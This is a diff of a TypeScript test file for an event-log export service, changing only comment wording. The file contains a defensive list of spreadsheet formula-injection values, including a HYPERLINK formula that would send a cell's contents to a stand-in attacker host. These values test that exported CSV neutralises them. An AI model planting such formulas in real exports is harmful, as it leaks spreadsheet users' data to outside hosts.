@@ -59,7 +59,7 @@ async function listed(client: Client, path: string, filter: Parameters) {
   }
 }
 
-/** Without what changes by itself: the entry is signed, and filed. */
+/** Without what changes when an entry is signed or filed. */
 const settled = (entries: readonly unknown[]): unknown =>
   JSON.parse(JSON.stringify(entries).replaceAll('"integrity":"pending"', '"integrity":"verified"'))
 
@@ -94,7 +94,7 @@ test("an export has what a list has, oldest first, from any sequence on", async 
     for (const after of [0, from]) {
       const found = await entriesOf(acme.reader, acme.path, { ...filter, after })
       const wanted = expected.filter(({ sequence }) => sequence > after)
-      // What was exported was recorded meanwhile.
+      // The exported entries were recorded meanwhile.
       const known = found.filter(({ action }) => !action.startsWith("workspace.events.export"))
       assert.deepEqual(
         settled(known),
@@ -136,7 +136,7 @@ test("with include=proof each line has what a page has", async () => {
   await readChain(acme.reader, acme.id)
 })
 
-/** Values that spreadsheets, CSV readers and terminals are known to trip over. */
+/** Values that trip spreadsheets, CSV readers and terminals. */
 const hostile = [
   '=HYPERLINK("http://evil.example/?"&A1)',
   "+1+1",
@@ -192,7 +192,7 @@ test("DuckDB reads CSV and Parquet, and agrees with the lines on every value", a
     assert.equal(types.get("userVisible"), "BOOLEAN")
     assert.equal(types.get("receivedAt"), "TIMESTAMP WITH TIME ZONE")
     assert.equal(types.get("occurredAt"), "TIMESTAMP WITH TIME ZONE")
-    // A spreadsheet's reader takes the apostrophe off; of Parquet nothing needs one.
+    // A spreadsheet removes the apostrophe; Parquet needs none.
     const plain = (column: string): string =>
       format === "csv" ? `regexp_replace(${column}, '^''', '')` : column
     const rows = await duck.rows(
@@ -292,7 +292,7 @@ async function opened(client: Client, path: string): Promise<IncomingMessage> {
 
 test("an export has what was recorded when it began, also for a slow reader; others wait their turn", async () => {
   const acme = await makeWorkspace(service)
-  // More than the sockets hold for a client that reads nothing.
+  // More than socket buffers hold for a client that reads nothing.
   const long = "x".repeat(60_000)
   await writeMany(acme, 400, { changes: () => ({ metadata: { long } }) })
   const path = address(acme.path, {})
@@ -309,7 +309,7 @@ test("an export has what was recorded when it began, also for a slow reader; oth
   const lines = Buffer.concat(chunks).toString().trimEnd().split("\n")
   assert.equal((JSON.parse(lines.at(-1) ?? "") as ExportEnd).end.count, 400)
   assert.ok(lines.slice(0, -1).every((line) => JSON.parse(line).sequence <= sequence))
-  // The place of the client that left is free, and the ledger has what it was sent.
+  // The place of the client that left is free, and the ledger says how much it was sent.
   const ended = await eventually("the export that was left is recorded", async () => {
     const page = await find(acme.reader, acme.path, {
       query: "action:workspace.events.export.end",
